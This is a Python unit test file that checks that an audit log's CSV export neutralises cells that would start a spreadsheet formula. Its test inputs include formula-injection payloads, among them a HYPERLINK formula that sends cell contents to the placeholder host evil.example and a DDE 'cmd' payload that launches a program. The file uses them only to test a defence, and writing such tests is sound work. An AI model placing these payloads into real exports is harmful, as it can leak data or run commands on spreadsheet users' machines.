"""The audit export as a spreadsheet opens it: a cell that would start a formula is shown as text."""

from __future__ import annotations

import csv
import io
from collections import namedtuple

import pytest

from shared.audit.pages import audit_csv

pytestmark = pytest.mark.unit

Row = namedtuple("Row", "actor action reason")


def exported(*reasons: str | None) -> list[list[str]]:
    rows = [Row("anne@nord", "read", reason) for reason in reasons]
    response = audit_csv([_Mapped(r) for r in rows], ["actor", "action", "reason"], "audit.csv")
    return list(csv.reader(io.StringIO(response.body.decode())))[1:]


class _Mapped:
    """A database row's shape: the export reads `row._mapping`."""

    def __init__(self, row: Row) -> None:
        self._mapping = row._asdict()


@pytest.mark.parametrize(
    "typed",
    [
        '=HYPERLINK("https://evil.example/?"&A1,"open")',
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(A1:A9)",
        "\t=1+1",
        "\r=1+1",
    ],
)
def test_a_cell_that_would_start_a_formula_is_exported_as_text(typed):
    [[_, _, cell]] = exported(typed)
    assert cell == "'" + typed


def test_ordinary_and_empty_cells_are_exported_unchanged():
    assert exported("forming a group", None, "call about 1=1") == [
        ["anne@nord", "read", "forming a group"],
        ["anne@nord", "read", ""],
        ["anne@nord", "read", "call about 1=1"],
    ]
